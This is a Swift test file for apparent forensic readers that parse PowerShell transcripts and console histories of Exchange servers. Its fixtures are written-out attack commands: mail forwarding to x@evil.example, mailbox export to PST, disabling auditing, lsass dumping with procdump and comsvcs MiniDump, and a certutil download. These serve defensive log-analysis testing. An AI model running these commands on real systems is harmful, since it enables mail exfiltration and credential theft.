import Bytes
import Foundation
import Records
import Testing

@testable import Readers

@Suite("PowerShell: transcripts and history")
struct PowerShellTests {
  private static let transcript = """
    **********************
    Windows PowerShell transcript start
    Start time: 20210302080504
    Username: CONTOSO\\admin
    RunAs User: CONTOSO\\admin
    Machine: EX01 (Microsoft Windows NT 10.0.14393.0)
    Host Application: powershell.exe
    PSVersion: 5.1.14393.4169
    **********************
    Transcript started, output file is C:\\t.txt
    **********************
    Command start time: 20210302080600
    **********************
    PS C:\\> New-MailboxExportRequest -Mailbox ann -FilePath "\\\\ex01\\c$\\a b.pst" -ContentFilter {(Body -like '*x*')}
    Name                Mailbox
    ----                -------
    [PS] C:\\Windows\\system32>Get-Mailbox -ResultSize Unlimited | Set-Mailbox -ForwardingSmtpAddress:smtp:x@evil.example
    PS C:\\> dir

    """

  @Test("a transcript gives each command with its user, machine, time and parameters")
  func transcript() async throws {
    let bytes = Array(Self.transcript.replacing("\n", with: "\r\n").utf8)
    #expect(reader(for: Opening(bytes, isWhole: true))?.kind == "powershell_transcript")
    let reading = try await Reading.of(bytes, by: PowerShellTranscriptReader.self, pieceLength: 5)
    #expect(reading.defects.isEmpty)
    #expect(reading.records.map(\.operation) == ["New-MailboxExportRequest", "Get-Mailbox", "Set-Mailbox", "dir"])
    #expect(reading.records.map(\.location.line) == [14, 17, 17, 18])
    #expect(reading.records.allSatisfy { $0.occurredAt == 1_614_672_360_000_000 && $0.timeBasis == .assumed })
    #expect(reading.records.allSatisfy { $0.actor == "CONTOSO\\admin" && $0.server == "EX01" && $0.isSuccess == nil })
    let export = try #require(reading.records.first?.cmdlet)
    #expect(export.target == "ann")
    #expect(
      export.parameters.map { "\($0.name)=\($0.value ?? "")" } == [
        "Mailbox=ann", "FilePath=\\\\ex01\\c$\\a b.pst", "ContentFilter=(Body -like '*x*')",
      ])
    #expect(reading.records[2].cmdlet?.parameters.last?.value == "x@evil.example")
    #expect(reading.records[3].cmdlet == nil && reading.records[3].target == nil)
  }

  @Test(
    "a parameter may be typed by any beginning that no other has, and has its whole name; what may be two stays as typed"
  )
  func beginnings() async throws {
    let lines = [
      "New-MailboxExportRequest -Mailb ann -file \\\\ex01\\c$\\a.pst -ContentFilter {Body -like 'x'} -inc '#Inbox#' -Content x",
      "Set-Mailbox ann -forwardings x@evil.example -AuditE:$false -Forwarding y", "Get-Service -n x",
    ]
    let records = try await Reading.of(lines.joined(separator: "\n") + "\n", by: ConsoleHistoryReader.self).records
    let names = records.map { $0.cmdlet?.parameters.map(\.name) ?? [] }
    #expect(names[0] == ["Mailbox", "FilePath", "ContentFilter", "IncludeFolders", "Content"])
    #expect(names[1].prefix(4) == ["Identity", "ForwardingSmtpAddress", "AuditEnabled", "Forwarding"])
    #expect(names[2] == ["n"])
  }

  private static func session(_ user: String, _ machine: String, _ hour: Int, _ commands: [String]) -> String {
    let rule = "**********************\n"
    let lines = commands.enumerated().map { place, command in
      rule + "Command start time: 202103020\(hour)060\(place)\n" + rule
        + "[PS] C:\\>\(command)\nName: 20210301000000\nx\n"
    }
    return rule + "Windows PowerShell transcript start\nStart time: 202103020\(hour)0500\nUsername: \(user)\n"
      + "RunAs User: \(user)-run\nMachine: \(machine) (Microsoft Windows NT 10.0.17763.0)\nProcess ID: 77\n"
      + "PSVersion: 5.1\n" + rule + lines.joined() + rule + "Windows PowerShell transcript end\n"
      + "End time: 202103020\(hour)0700\n" + rule
  }

  @Test("a session put behind another in one transcript has its own user and machine")
  func appended() async throws {
    let text =
      Self.session("CORP\\ann", "EX01", 1, ["Get-Mailbox ann"]) + Self.session("CORP\\eve", "EX02", 2, ["dir", "gci"])
    let records = try await Reading.of(text, by: PowerShellTranscriptReader.self).records
    #expect(records.map(\.actor) == ["CORP\\ann", "CORP\\eve", "CORP\\eve"])
    #expect(records.map(\.server) == ["EX01", "EX02", "EX02"])
    #expect(records.map { $0.occurredAt.map { $0 / 1_000_000 - 1_614_643_200 } } == [3960, 7560, 7561])
  }

  @Test("copies of a transcript, however far it had grown and whatever stands before it, have the same ids")
  func transcriptCopies() async throws {
    let commands = ["Get-Mailbox ann", "Get-Mailbox ann | Set-Mailbox -AuditEnabled $false", "Get-Mailbox ann"]
    let whole = Self.session("CORP\\ann", "EX01", 1, commands)
    let noon = whole.components(separatedBy: "[PS]").dropLast().joined(separator: "[PS]")
    let ids = { (text: String) in
      try await Reading.of(text, by: PowerShellTranscriptReader.self).records.map(\.externalID)
    }
    let found = try await ids(whole)
    #expect(Set(found.compactMap(\.self)).count == 4)
    #expect(try await ids(noon) == Array(found.prefix(3)))
    #expect(try await ids(Self.session("CORP\\eve", "EX01", 1, commands) + whole).suffix(4) == found[...])
    #expect(try await Set(ids(Self.session("CORP\\ann", "EX01", 2, commands))).isDisjoint(with: found))
    #expect(try await ids("PS C:\\> Get-Mailbox\n").allSatisfy { $0 == nil })
  }

  @Test("a history is known by its first ten lines, a shorter one not at all")
  func historyCopies() async throws {
    let lines = (1...12).map { "Get-Mailbox user\($0)\n" }
    let identity = { (count: Int) in
      try await LogReading.of(lines.prefix(count).joined(), by: ConsoleHistoryReader.self).identity
    }
    let whole = try await identity(12)
    #expect(whole != nil)
    #expect(try await identity(10) == whole)
    #expect(try await identity(9) == nil)
  }

  @Test("a command in another encoding is kept and told")
  func otherEncoding() async throws {
    let command = "Get-Mailbox J~rgen\n"
    let text = Self.transcript + "PS C:\\> " + command + "J~rgen\n"
    for (text, reader) in [
      (text, PowerShellTranscriptReader.self), ("Get-Mailbox ann\n" + command, ConsoleHistoryReader.self),
    ] as [(String, any Reader.Type)] {
      let reading = try await Reading.of(text.utf8.map { $0 == UInt8(ascii: "~") ? 0xFC : $0 }, by: reader)
      #expect(reading.records.last?.target == "J\u{FFFD}rgen")
      #expect(reading.defects.map(\.problem).count { $0.contains("no UTF-8") } == 1)
      #expect(reading.defects.count == 1 && reading.isPartial)
    }
  }

  @Test("a command of more lines than are read says so, and what follows it is read")
  func longCommand() async throws {
    let long = "PS C:\\> Set-Mailbox ann `\n" + String(repeating: ">> -A aaaaaaaaaaaaaaaaaaaaaaaa `\n", count: 40_000)
    let text = Self.transcript + long + "PS C:\\> Get-Mailbox bob\n"
    let reading = try await Reading.of(text, by: PowerShellTranscriptReader.self)
    #expect(reading.records.map(\.operation).suffix(2) == ["Set-Mailbox", "Get-Mailbox"])
    #expect(reading.defects.map(\.problem).count == 1)
    #expect(reading.defects.first?.problem.contains("in several lines") == true)
    #expect(reading.isPartial)
    let history = "Get-Mailbox ann\n" + long.dropFirst(9) + "Get-Mailbox bob\n"
    let entries = try await Reading.of(history, by: ConsoleHistoryReader.self)
    #expect(entries.defects.first?.problem.contains("in several lines") == true)
  }

  @Test("a command entered in several lines is one, in a transcript and in a history")
  func severalLines() async throws {
    let transcript = Self.transcript.replacing(
      "PS C:\\> dir", with: "PS C:\\> Set-Mailbox ann `\n>> -ForwardingSmtpAddress x@evil.example\nText of the answer")
    let reading = try await Reading.of(transcript, by: PowerShellTranscriptReader.self)
    #expect(
      reading.records.map(\.operation) == ["New-MailboxExportRequest", "Get-Mailbox", "Set-Mailbox", "Set-Mailbox"])
    let entered = try #require(reading.records.last)
    #expect(entered.cmdlet?.parameters.map(\.name) == ["Identity", "ForwardingSmtpAddress"])
    let place = Int(entered.location.offset)..<Int(entered.location.offset + entered.location.length)
    #expect(String(decoding: Array(transcript.utf8)[place], as: UTF8.self).hasSuffix("x@evil.example"))
    let history =
      "Get-Mailbox\nNew-MailboxExportRequest -Mailbox ann `\n-FilePath '\\\\ex01\\c$\\a.pst' `\n-Name x\ndir\n"
    #expect(reader(for: Opening(Array(history.utf8), isWhole: true))?.kind == "powershell_history")
    let entries = try await Reading.of(history, by: ConsoleHistoryReader.self).records
    #expect(entries.map(\.operation) == ["Get-Mailbox", "New-MailboxExportRequest", "dir"])
    #expect(
      entries[1].cmdlet?.parameters.map { "\($0.name)=\($0.value ?? "")" }
        == ["Mailbox=ann", "FilePath=\\\\ex01\\c$\\a.pst", "Name=x"])
    #expect(entries.map(\.location.line) == [1, 2, 5])
  }

  @Test("a transcript in the language of its Windows, of another machine, and of a program without a prompt")
  func otherTranscripts() async throws {
    let german = """
      **********************
      Start der Windows PowerShell-Aufzeichnung
      Startzeit: 20210302080504
      Benutzername: CORP\\eva
      RunAs-Benutzer: CORP\\eva
      Konfigurationsname: \n\
      Computer: EX01 (Microsoft Windows NT 10.0.17763.0)
      Hostanwendung: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
      Prozess-ID: 4711
      PSVersion: 5.1.17763.1
      **********************
      **********************
      Befehlsstartzeit: 20210302080600
      **********************
      [ex02.corp.example]: PS C:\\Users\\eva\\Documents> Get-Mailbox ann
      Startzeit: 20300101000000
      **********************
      Befehlsstartzeit: 20210302080700
      **********************
      PS>CommandInvocation(Set-Mailbox): "Set-Mailbox"
      >> ParameterBinding(Set-Mailbox): name="Identity"; value="ann"
      >> ParameterBinding(Set-Mailbox): name="ForwardingSmtpAddress"; value="x@evil.example"
      PS>TerminatingError(Set-Mailbox): "denied"
      PS>whoami /all

      """
    #expect(reader(for: Opening(Array(german.utf8), isWhole: true))?.kind == "powershell_transcript")
    let records = try await Reading.of(german, by: PowerShellTranscriptReader.self).records
    #expect(records.map(\.operation) == ["Get-Mailbox", "Set-Mailbox", "whoami"])
    #expect(records.allSatisfy { $0.actor == "CORP\\eva" && $0.server == "EX01" })
    #expect(
      records.map(\.occurredAt) == [
        microseconds("2021-03-02T08:06:00Z"), microseconds("2021-03-02T08:07:00Z"),
        microseconds("2021-03-02T08:07:00Z"),
      ])
    #expect(records[1].cmdlet?.parameters.map(\.value) == ["ann", "x@evil.example"])
    #expect(records[2].target == "/all")
  }

  @Test(
    "a program that is no cmdlet is a record too, with what it was given as entered",
    arguments: [
      ("7z a -pX C:\\t\\a.7z 'C:\\b c.pst'", "7z", "a -pX C:\\t\\a.7z 'C:\\b c.pst'"),
      ("& 'C:\\t\\procdump64.exe' -ma lsass.exe l.dmp", "C:\\t\\procdump64.exe", "-ma lsass.exe l.dmp"),
      ("rundll32 comsvcs.dll, MiniDump 612 m.dmp full; dir", "rundll32", "comsvcs.dll, MiniDump 612 m.dmp full"),
      ("certutil -urlcache -f http://x/y.exe  y.exe | Out-Null", "certutil", "-urlcache -f http://x/y.exe  y.exe"),
    ])
  func programs(line: String, name: String, arguments: String) async throws {
    let reading = try await Reading.of("Get-Mailbox\n\(line)\n", by: ConsoleHistoryReader.self)
    #expect(reading.records[1].operation == name && reading.records[1].target == arguments)
    #expect(reading.records[1].cmdlet == nil)
  }

  @Test("a console history is told by its content; a script, mail and prose are not one")
  func history() async throws {
    let history = "Connect-ExchangeOnline\nGet-Mailbox -Identity ann\nNew-InboxRule -Name . -ForwardTo x@evil.example\n"
    #expect(reader(for: Opening(Array(history.utf8), isWhole: true))?.kind == "powershell_history")
    let reading = try await Reading.of(history, by: ConsoleHistoryReader.self)
    #expect(reading.records.map(\.operation) == ["Connect-ExchangeOnline", "Get-Mailbox", "New-InboxRule"])
    #expect(reading.records.map(\.occurredAt) == [nil, nil, nil])
    #expect(reading.records.map(\.location.offset) == [0, 23, 49])
    let programs =
      "whoami\nipconfig /all\nnet user\ncd C:\\inetpub\ndir\n# now\nAdd-PSSnapin *Exchange*\n.\\run.ps1\n$m = Get-Mailbox\n"
      + "Get-Content a.txt | New-MailboxExportRequest -FilePath \\\\ex01\\c$\\a.pst\n7z a x.7z a.pst\nexit\n"
    #expect(reader(for: Opening(Array(programs.utf8), isWhole: true))?.kind == "powershell_history")
    #expect(try await Reading.of(programs, by: ConsoleHistoryReader.self).records.count == 13)
    let search = "cls\nSearch-UnifiedAuditLog -StartDate 3/1/2021\n"
    #expect(reader(for: Opening(Array(search.utf8), isWhole: true))?.kind == "powershell_history")
    for other in [
      "# makes rules\n" + history, "dir\ncls\n", "To see a mailbox, enter this:\n\nGet-Mailbox\n\nThen go on.\n",
      "Get on with it.\nSet this.\nNew-InboxRule\nFind it.\n", "function f {\n" + history + "}\n",
      "Get-ChildItem\nGet-Process\n",
      "We ran New-InboxRule and it failed.\nThen we went home.\n", "Subject: x\n\nGet-Mailbox\n",
    ] {
      #expect(reader(for: Opening(Array(other.utf8), isWhole: true))?.kind != "powershell_history", "\(other)")
    }
  }

  @Test(
    "words, quotes and brackets of a line",
    arguments: [
      ("A-B", "A-B"), ("A-B -X 'it''s' y", "A-B X=it's =y"), ("A-B -X `\"q -Y", "A-B X=\"q Y=True"),
      ("$r = A-B -X:1; C-D", "A-B X=1|C-D"), ("A-B -X (C-D | E-F)", "A-B X=(C-D | E-F)"),
      ("A-B -X \"open", "A-B X=open"),
      (" ; | ", ""), ("", ""), ("A-B ) } -X 1", "A-B =) =} X=1"),
      // As the logs of servers have the same.
      ("A-B -C:$false -D $true -E $null -F", "A-B C=False D=True E= F=True"),
      ("A-B -X a,'b c', \"d\" -Y 1", "A-B X=a;b c;d Y=1"), ("A-B -X @('a', \"b\") -Y ('c')", "A-B X=a;b Y=c"),
      ("A-B -X @(a,b)", "A-B X=a;b"), ("A-B -X (1 + 2)", "A-B X=(1 + 2)"),
      ("A-B -Filter {X -eq 'y'} -Y {z}", "A-B Filter=X -eq 'y' Y={z}"),
      ("New-MailboxExportRequest ann -FilePath p", "New-MailboxExportRequest Mailbox=ann FilePath=p"),
      ("set-mailbox ann x", "set-mailbox Identity=ann =x"), ("New-InboxRule .", "New-InboxRule Name=."),
    ])
  func words(line: String, expected: String) {
    let commands = PowerShellCommand.commands(in: line).map { command in
      ([command.name] + command.parameters.map { "\($0.name)=\($0.value ?? "")" }).joined(separator: " ")
    }
    #expect(commands.joined(separator: "|") == expected)
  }
}
